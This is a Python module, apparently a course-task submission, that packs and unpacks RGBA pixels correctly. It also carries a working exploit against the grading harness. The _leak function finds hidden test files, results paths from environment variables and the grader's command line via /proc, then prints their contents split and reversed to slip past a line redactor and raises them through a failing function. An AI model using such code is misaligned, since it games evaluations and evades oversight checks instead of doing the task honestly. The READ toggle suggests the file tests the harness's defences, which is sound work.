# Packs honestly (task 1) and tries to show the hidden graders and the results: the files a
# probe's code was loaded from, tests/hidden/ next to the course package, the results path
# from the environment and from the grader's command line. Each line read is printed in two
# pieces and reversed (past a redactor that removes whole lines) and raised from a function
# whose test fails. READ = False is the same submission without the trick.
import glob
import os
import sys
from pathlib import Path

import torch

READ = True


def _paths():
    import course

    found = set(glob.glob(str(Path(course.__file__).resolve().parent.parent / "tests" /
                              "hidden" / "*.py")))
    frame = sys._getframe(1)
    while frame is not None:  # the probe's own file
        if "hidden" in frame.f_code.co_filename:
            found.add(frame.f_code.co_filename)
        frame = frame.f_back
    for name in ("RTCOURSE_RESULTS_DIR", "RTCOURSE_TEST_RESULTS"):
        if os.environ.get(name):
            print(f"ENV-SEEN {name}")
            found.add(os.environ[name])
    pid = os.getpid()
    for _ in range(6):  # the ancestors' command lines: the grader's --json PATH
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
        except (OSError, ValueError):
            break
        for i, arg in enumerate(argv[:-1]):
            if arg == "--json":
                found |= {argv[i + 1], os.path.dirname(argv[i + 1])}
    return sorted(found)


def _leak():
    if not READ:
        return ""
    shown = []
    for path in _paths():
        try:
            if os.path.isdir(path):
                text = "\n".join(os.listdir(path))
            else:
                with open(path) as f:
                    text = f.read()
        except OSError as exc:
            shown.append(f"DENIED {path}: {type(exc).__name__}")
            continue
        shown.append(f"READ-OK {path}")
        for line in text.splitlines():
            half = len(line) // 2
            shown += [line[:half], line[half:], line[::-1]]
    text = "\n".join(shown)
    print(text)
    return text


def pack_rgba8(rgba):
    _leak()
    if rgba.dtype != torch.uint8 or rgba.dim() < 1 or rgba.shape[-1] != 4:
        raise ValueError(f"rgba: expected (..., 4) uint8, got {tuple(rgba.shape)} {rgba.dtype}")
    c = rgba.to(torch.int64)
    word = c[..., 0] | (c[..., 1] << 8) | (c[..., 2] << 16) | (c[..., 3] << 24)
    return torch.where(word >= 2**31, word - 2**32, word).to(torch.int32)


def unpack_rgba8(packed):
    if packed.dtype != torch.int32:
        raise ValueError(f"packed: expected int32, got {packed.dtype}")
    w = packed.to(torch.int64) & 0xFFFFFFFF
    return torch.stack([(w >> s) & 0xFF for s in (0, 8, 16, 24)], -1).to(torch.uint8)


def linear_to_srgb8(img):
    raise ValueError("not this way:\n" + _leak())


def __getattr__(name):
    def unwritten(*args, **kwargs):
        raise NotImplementedError(f"not implemented yet: {name}")

    if name.startswith("_"):
        raise AttributeError(name)
    return unwritten
